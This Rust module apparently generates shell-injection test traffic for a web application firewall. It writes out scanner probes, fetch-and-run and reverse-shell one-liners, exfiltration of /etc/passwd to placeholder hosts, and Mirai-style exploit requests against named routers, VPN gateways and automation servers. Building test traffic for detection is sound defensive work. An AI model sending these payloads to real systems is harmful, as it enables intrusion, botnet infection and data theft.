//! Commands for shells: the arithmetic that scanners look for, the kits that spread over routers and cameras, gateways and
//! security devices, and the servers that automate a data centre.

use medward_waf::AttackClass;

use super::super::super::attack::{AttackGrammar, payload, request};
use super::super::super::codec;
use super::super::super::encode::Encoding;
use super::super::super::place::Place;
use super::super::super::rng::Rng;
use super::super::super::wire::{FORM, JSON, Wire};
use super::tools::{Shot, callback, command, domain, form, in_base64, json, path, query, sent, xml};

const IN_TARGETS: &[Encoding] =
    &[Encoding::Plain, Encoding::Percent, Encoding::DoublePercent, Encoding::Comment, Encoding::Hex];

pub(super) const ATTACKS: &[AttackGrammar] = &[
    payload(
        "shell-scanner-echo",
        AttackClass::Shell,
        35,
        echo,
        &[Place::Query, Place::Form, Place::Cookie],
        IN_TARGETS,
    ),
    payload(
        "shell-blind-calls",
        AttackClass::Shell,
        30,
        calls,
        &[Place::Json, Place::Xml, Place::Multipart, Place::Header],
        &[Encoding::Plain, Encoding::JsonEscape],
    ),
    request("shell-botnet-kits", AttackClass::Shell, 35, botnets),
    request("shell-gateways", AttackClass::Shell, 34, gateways),
    request("shell-automation", AttackClass::Shell, 34, automation),
];

/// Sums and marks of AWVS, commix, xray, ZAP and Burp that only a shell would put together.
fn echo(rng: &mut Rng) -> Vec<u8> {
    let (n, m, word) = (rng.between(10_000, 999_999), rng.between(100, 9999), rng.letters(6));
    let lead = rng.pick(&["", "1", "x", "127.0.0.1"]);
    match rng.below(18) {
        0 => format!("echo {word}$()\\ {word}\\nz^xyu||a #' &echo {word}$()\\ {word}\\nz^xyu||a #|\" &echo {word}$()\\ {word}\\nz^xyu||a #"),
        1 => format!("{lead};expr {n} + {m}"),
        2 => format!("{lead}|expr {n} + {m}"),
        3 => format!("{lead}$(expr {n} + {m})"),
        4 => format!("{lead}&set /A {n}+{m}&"),
        5 => format!("{lead}|set /A {n}+{m}"),
        6 => format!("{lead};echo {word}$(({n}+{m}))$(echo {word}){word}"),
        7 => format!("{lead}|echo `echo {word}$(({n}-{m}))`"),
        8 => format!("{lead}&sleep {}s&", n % 20),
        9 => format!("{lead}'&sleep {}&'", n % 20),
        10 => format!("{lead}\"&timeout /T {}&\"", n % 20),
        11 => format!("{lead}&ping -n {} 127.0.0.1&", n % 30),
        12 => format!("{lead}||ping -i 30 127.0.0.1 ; x || ping -n {} 127.0.0.1 &", n % 30),
        13 => format!("{lead};cat /etc/passwd;echo {word}"),
        14 => format!("{lead}\n/bin/echo {word}\n"),
        15 => format!("{lead}`printf {word}%s {n}`"),
        16 => format!("{lead};echo {n}|md5sum #{word}"),
        _ => format!("{lead}&&type C:\\Windows\\win.ini&rem {word}"),
    }
    .into_bytes()
}

/// Nothing comes back, so the machine must call: with what it knows in the name it asks for.
fn calls(rng: &mut Rng) -> Vec<u8> {
    let (away, name, word) = (callback(rng), domain(rng), rng.letters(4));
    let lead = rng.pick(&["", "a", "img.png", "1.1.1.1"]);
    match rng.below(16) {
        0 => format!("{lead}$(curl${{IFS}}`whoami`.{name})"),
        1 => format!("{lead}|nslookup -q=cname {word}.{name}"),
        2 => format!("{lead};curl -fsSL http://{away}/{word}|bash"),
        3 => format!("{lead}`wget -qO- {away}/{word}`"),
        4 => format!("{lead}&&curl -d @/etc/passwd {away}"),
        5 => format!("{lead};host `hostname`.{name};"),
        6 => format!("{lead}$(dig +short {word}.{name})"),
        7 => format!("{lead}|powershell -c iwr http://{away}/{word} -UseBasicParsing|iex"),
        8 => format!("{lead}& certutil -urlcache -f http://{away}/{word} %TEMP%\\{word}.exe & %TEMP%\\{word}.exe"),
        9 => format!("{lead};(crontab -l;echo '* * * * * curl {away}|sh')|crontab -"),
        10 => format!("{lead};exec 5<>/dev/tcp/{name}/443;cat <&5|sh"),
        11 => format!("{lead}|ruby -rsocket -e'spawn(\"sh\",[:in,:out,:err]=>TCPSocket.new(\"{word}.example\",4444))'"),
        12 => format!("{lead};python3 -c \"import urllib.request as u;u.urlopen('http://{away}/{word}')\""),
        13 => format!("{lead}||socat exec:'sh -li',pty tcp:{word}.example:443"),
        14 => format!("{lead};lwp-download http://{away}/{word}.pl /tmp/{word};perl /tmp/{word}"),
        _ => format!("{lead};tar cz /etc|openssl s_client -quiet -connect {word}.example:443"),
    }
    .into_bytes()
}

/// Mirai, Mozi, Gafgyt and their kin: routers, cameras, recorders, storage boxes.
fn botnets(rng: &mut Rng) -> Shot {
    let word = rng.letters(4);
    let server = format!("203.0.113.{}", rng.between(1, 254));
    let binary = rng.pick(&["Mozi.m", "arm7", "mips", "sora.sh", "jaws", "x86_64", "bins.sh"]);
    let fetch = format!("cd /tmp;rm -rf *;wget http://{server}/{binary};chmod 777 {binary};./{binary} {word}");
    match rng.below(18) {
        0 => query(format!("/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://{server}:{}/{binary}+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1", rng.digits(5)), rng),
        1 => query(format!("/shell?{}", fetch.replace(' ', "+")), rng),
        2 => form("/GponForm/diag_Form?images/", format!("XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://{server}/{binary}+-O+/tmp/{word};sh+/tmp/{word}`&ipv=0"), rng),
        3 => xml("/ctrlt/DeviceUpgrade_1", format!("<?xml version=\"1.0\" ?><s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\" s:encodingStyle=\"http://schemas.xmlsoap.org/soap/encoding/\"><s:Body><u:Upgrade xmlns:u=\"urn:schemas-upnp-org:service:WANPPPConnection:1\"><NewStatusURL>$(/bin/busybox wget -g {server} -l /tmp/{word} -r /{binary};sh /tmp/{word})</NewStatusURL><NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL></u:Upgrade></s:Body></s:Envelope>"), rng),
        4 => (sent(Wire::post("/HNAP1/", "text/xml; charset=\"utf-8\"", "<?xml version=\"1.0\"?><s/>").header("SOAPAction", format!("http://purenetworks.com/HNAP1/GetDeviceSettings/`cd /tmp && wget http://{server}/{binary} && sh {binary} {word}`")), rng), Place::Header, Encoding::Plain),
        5 => form("/tmUnblock.cgi", format!("ttcp_ip=-h+`cd+/tmp;wget+http://{server}/{binary};sh+{binary}`&action=&ttcp_num=2&ttcp_size=2&submit_button=&change_action=&commit=0&StartEPI=1&{word}=1"), rng),
        6 => {
            let wire = Wire::new("PUT", "/SDK/webLanguage").body("application/x-www-form-urlencoded; charset=UTF-8", format!("<?xml version=\"1.0\" encoding=\"UTF-8\"?><language>$({}>webLib/{word})</language>", rng.pick(&["id", "uname -a", "ls -l /"])));
            (sent(wire.header("X-Requested-With", "XMLHttpRequest"), rng), Place::Xml, Encoding::Plain)
        }
        7 => in_base64(query(format!("/cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15&system={}", codec::percent(codec::base64(&fetch))), rng)),
        8 => query(format!("/device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___&mdb=sos&mdc={}", codec::percent(&fetch)), rng),
        9 => form("/goform/formping", format!("pingAddr=127.0.0.1;{}&{word}=1", codec::form(&fetch)), rng),
        10 => query(format!("/cgi-bin/kerbynet?Action=x509view&Section=NoAuthREQ&User=&x509type=%27%0A{}%0A%27", codec::percent(&fetch)), rng),
        11 => form("/goform/set_LimitClient_cfg", format!("time1=00:00-00:00&time2=00:00-00:00&mac=;{}", codec::form(&fetch)), rng),
        12 => form("/boaform/admin/formPing", format!("target_addr=%3b{}+%2F&waninf=1_INTERNET_R_VID_{}", codec::form(&fetch), rng.digits(3)), rng),
        13 => xml("/picsdesc.xml", format!("<?xml version=\"1.0\" ?><s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\"><s:Body><u:AddPortMapping xmlns:u=\"urn:schemas-upnp-org:service:WANIPConnection:1\"><NewRemoteHost></NewRemoteHost><NewExternalPort>{}</NewExternalPort><NewProtocol>TCP</NewProtocol><NewInternalClient>`cd /var;wget http://{server}/{binary};sh {binary}`</NewInternalClient></u:AddPortMapping></s:Body></s:Envelope>", rng.digits(5)), rng),
        14 => query(format!("/language/Swedish$%7BIFS%7D&&cd$%7BIFS%7D/tmp;rm$%7BIFS%7D-rf$%7BIFS%7D*;wget$%7BIFS%7Dhttp://{server}/{binary};sh$%7BIFS%7D/tmp/{binary}&%3Er&&tar$%7BIFS%7D/string.js?{word}"), rng),
        15 => query(format!("/board.cgi?cmd={}", codec::form(&fetch)), rng),
        16 => path(format!("/cgi-bin/;{}", codec::percent(fetch.replace(' ', "$IFS$9"))), rng),
        _ => json("/cgi-bin/supervisor/Factory.cgi", format!("{{\"action\":\"white_led\",\"brightness\":\"$({fetch} 2>&1) #\",\"{word}\":1}}"), rng),
    }
}

/// VPN gateways, firewalls, behaviour managers: F5, Palo Alto, Ivanti, Zyxel, Sangfor, Ruijie, Topsec, Netentsec, H3C.
fn gateways(rng: &mut Rng) -> Shot {
    let (run, word) = (command(rng), rng.letters(4));
    let away = callback(rng);
    match rng.below(18) {
        0 => (
            sent(
                Wire::post(
                    "/mgmt/tm/util/bash",
                    JSON,
                    format!("{{\"command\":\"run\",\"utilCmdArgs\":\"-c '{run};echo {word}'\"}}"),
                )
                .header("Connection", "keep-alive, X-F5-Auth-Token")
                .header("X-F5-Auth-Token", "a")
                .header("Authorization", "Basic YWRtaW46"),
                rng,
            ),
            Place::Json,
            Encoding::Plain,
        ),
        1 => (
            sent(
                Wire::post("/ssl-vpn/hipreport.esp", FORM, format!("user={word}&portal=a")).header(
                    "Cookie",
                    format!("SESSID=/../../../../opt/panlogs/tmp/device_telemetry/minute/a`curl${{IFS}}{away}/{word}`"),
                ),
                rng,
            ),
            Place::Cookie,
            Encoding::Plain,
        ),
        2 => path(format!("/api/v1/totp/user-backup-code/../../license/keys-status/%3bcurl%20{away}%2f{word}"), rng),
        3 => json(
            "/ztp/cgi-bin/handler",
            format!(
                "{{\"command\":\"setWanPortSt\",\"proto\":\"dhcp\",\"port\":\"4\",\"vlan_tagged\":\"1\",\"vlanid\":\"5\",\"mtu\":\"; {run};\",\"data\":\"{word}\"}}"
            ),
            rng,
        ),
        4 => form(
            "/rep/login",
            format!(
                "clsMode=cls_mode_login%0A{}%0A&index=index&log_type=report&loginType=account&page=login&rnd=0&userID=admin&userPsw={word}",
                codec::percent(&run)
            ),
            rng,
        ),
        5 => form("/guest_auth/guestIsUp.php", format!("mac=1&ip=127.0.0.1|{}+>+{word}.txt", codec::form(&run)), rng),
        6 => json(
            "/directdata/direct/router",
            format!(
                "{{\"action\":\"SSLVPN_Resource\",\"method\":\"deleteImage\",\"data\":[{{\"data\":[\"/var/www/html/d.txt;{run} >/var/www/html/{word}.txt\"]}}],\"type\":\"rpc\",\"tid\":17}}"
            ),
            rng,
        ),
        7 => query(
            format!("/adv,/cgi-bin/weblogin.cgi?username=admin'%3B{}%20%23&password={word}", codec::percent(&run)),
            rng,
        ),
        8 => form(
            "/cgi/maincgi.cgi?Url=VerifyCode",
            format!("name=superman&lang=%60{}%60&{word}=", codec::form(&run)),
            rng,
        ),
        9 => json(
            "/cgi-bin/luci/api/auth",
            format!("{{\"method\":\"checkNet\",\"params\":{{\"host\":\"`{run}>{word}.txt`\"}}}}"),
            rng,
        ),
        10 => form(
            "/login.php",
            format!(
                "username=admin&password=admin?show+{}&{word}=",
                rng.pick(&["webmaster+user", "version", "running-config"])
            ),
            rng,
        ),
        11 => json(
            "/cgi-bin/cstecgi.cgi",
            format!(
                "{{\"topicurl\":\"setting/setDiagnosisCfg\",\"actionFlag\":\"1\",\"ipDoamin\":\"127.0.0.1 -w 1;{run} #{word}\"}}"
            ),
            rng,
        ),
        12 => query(
            format!(
                "/webui/?g=aaa_portal_auth_local_submit&bkg_flag=0&suffix=%60{}%20%3E/usr/local/webui/{word}.txt%60",
                codec::percent(&run)
            ),
            rng,
        ),
        13 => form(
            "/sslvpn/sslvpn_client.php?client=logoImg&img=x%20/tmp%7C".to_owned()
                + &codec::percent(format!("{run} > {word}.txt")),
            "x=1",
            rng,
        ),
        14 => query(
            format!("/cgi-bin/popen.cgi?command={}&v=0.{}", codec::percent(format!("{run};id")), rng.digits(16)),
            rng,
        ),
        15 => json("/api/sys/ping", format!("{{\"dest\":\"8.8.8.8\\n{run}\\n\",\"count\":\"{}\"}}", word.len()), rng),
        16 => form(
            "/php/ping.php",
            format!("jsondata%5Btype%5D=99&jsondata%5Bip%5D={}", codec::form(format!("|{run};{word}"))),
            rng,
        ),
        _ => (
            sent(
                Wire::get("/")
                    .header("User-Agent", "Mozilla/5.0")
                    .header("Authorization", format!("Basic {}", codec::base64(format!("admin';{run};':{word}")))),
                rng,
            ),
            Place::Header,
            Encoding::Base64,
        ),
    }
}

/// Schedulers, monitors, containers and version control that run what they are told.
fn automation(rng: &mut Rng) -> Shot {
    let (run, word) = (command(rng), rng.letters(4));
    let away = callback(rng);
    let percent = codec::percent(&run);
    match rng.below(19) {
        0 => json(
            "/run",
            format!(
                "{{\"jobId\":1,\"executorHandler\":\"demoJobHandler\",\"executorParams\":\"{word}\",\"executorBlockStrategy\":\"COVER_EARLY\",\"executorTimeout\":0,\"logId\":1,\"logDateTime\":1{},\"glueType\":\"GLUE_SHELL\",\"glueSource\":\"{run}\",\"glueUpdatetime\":1586699003758,\"broadcastIndex\":0,\"broadcastTotal\":0}}",
                rng.digits(12)
            ),
            rng,
        ),
        1 => json(
            "/ws/v1/cluster/apps",
            format!(
                "{{\"application-id\":\"application_{}_0001\",\"application-name\":\"{word}\",\"am-container-spec\":{{\"commands\":{{\"command\":\"/bin/bash -c '{run}'\"}}}},\"application-type\":\"YARN\"}}",
                rng.digits(13)
            ),
            rng,
        ),
        2 => json(
            format!("/v1.24/containers/create?name={word}"),
            format!(
                "{{\"Image\":\"alpine\",\"Cmd\":[\"chroot\",\"/mnt\",\"/bin/sh\",\"-c\",\"curl -fsSL http://{away}/{word}|sh\"],\"HostConfig\":{{\"Binds\":[\"/:/mnt\"],\"Privileged\":true}}}}"
            ),
            rng,
        ),
        3 => (
            sent(
                Wire::get(format!(
                    "/remote_agent.php?action=polldata&local_data_ids[0]={}&host_id=1&poller_id=%60{percent}%60",
                    rng.below(99)
                ))
                .header("X-Forwarded-For", "127.0.0.1"),
                rng,
            ),
            Place::Query,
            Encoding::Plain,
        ),
        4 => query(
            format!(
                "/rest/api/latest/projects/PUB/repos/{word}/archive?filename={word}&at=x&path=x&prefix=ax%00--exec=%60{percent}%60%00--remote=origin"
            ),
            rng,
        ),
        5 => query(format!("/jobs/?doAs=`{}`", percent.replace('\'', "%27")).replace('`', "%60"), rng),
        6 => form(
            "/password_change.cgi",
            format!("user=rootxx&pam=&expired=2&old={word}|{}&new1=x&new2=x", codec::form(&run)),
            rng,
        ),
        7 => xml(
            "/RPC2",
            format!(
                "<?xml version=\"1.0\"?><methodCall><methodName>supervisor.supervisord.options.warnings.linecache.os.system</methodName><params><param><string>{}|tee -a /tmp/{word}</string></param></params></methodCall>",
                codec::xml(&run)
            ),
            rng,
        ),
        8 => form(
            "/run",
            format!(
                "token={}&client=ssh&tgt=*&fun=a&roster={word}&ssh_priv=aaa|{}%3b",
                rng.digits(5),
                codec::form(&run)
            ),
            rng,
        ),
        9 => json(
            "/api/v1/dags/example_trigger_target_dag/dagRuns",
            format!("{{\"conf\":{{\"message\":\"'\\\";{run};#\"}},\"dag_run_id\":\"{word}\"}}"),
            rng,
        ),
        10 => json(
            "/v1/agent/service/register",
            format!(
                "{{\"ID\":\"{word}\",\"Name\":\"{word}\",\"Address\":\"127.0.0.1\",\"Port\":80,\"check\":{{\"Args\":[\"sh\",\"-c\",\"{run}\"],\"interval\":\"10s\",\"Timeout\":\"86400s\"}}}}"
            ),
            rng,
        ),
        11 => form(
            "/nagiosxi/config/monitoringwizard.php?update=1&nextstep=3&wizard=switch",
            format!("ip_address=127.0.0.1%22%3b{}%3b&snmpopts%5Bsnmpcommunity%5D={word}", codec::form(&run)),
            rng,
        ),
        12 => form("/api/system/exec", format!("cmd=ping&args=-c%201%20127.0.0.1%0a{percent}%0a&{word}="), rng),
        13 => json(
            "/v2/pipelines",
            format!(
                "{{\"name\":\"{word}\",\"steps\":[{{\"image\":\"x\",\"script\":[\"$({run})\",\"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\"]}}]}}"
            ),
            rng,
        ),
        14 => query(format!("/svnwebclient/changedResource.jsp?url=/{word}&rev=1%22%26%26{percent}%26%26%22"), rng),
        15 => query(
            format!(
                "/index.php/vendor/elfinder/php/connector.minimal.php?cmd=archive&name=-TvTT={percent}%20%23%20a.zip&target=l1_Lw&targets%5B1%5D=l1_{word}&type=application%2Fzip"
            ),
            rng,
        ),
        16 => json(
            "/api/proxy/diagnostics",
            format!("{{\"tool\":\"traceroute\",\"host\":\"$({run})\",\"options\":[\"-w\",\"{word}\"]}}"),
            rng,
        ),
        17 => xml(
            "/",
            format!(
                "<?xml version=\"1.0\"?><methodCall><methodName>set_time_config</methodName><params><param><value><string>\" {};\"</string></value></param><param><value>{word}</value></param></params></methodCall>",
                codec::xml(&run)
            ),
            rng,
        ),
        _ => json(
            "/api/graphql",
            format!(
                "{{\"query\":\"mutation {{ ImportPaste(host:\\\"localhost\\\", port:80, path:\\\"/ ; {run}\\\", scheme:\\\"http\\\"){{ result }} }}\",\"variables\":{{\"{word}\":1}}}}"
            ),
            rng,
        ),
    }
}
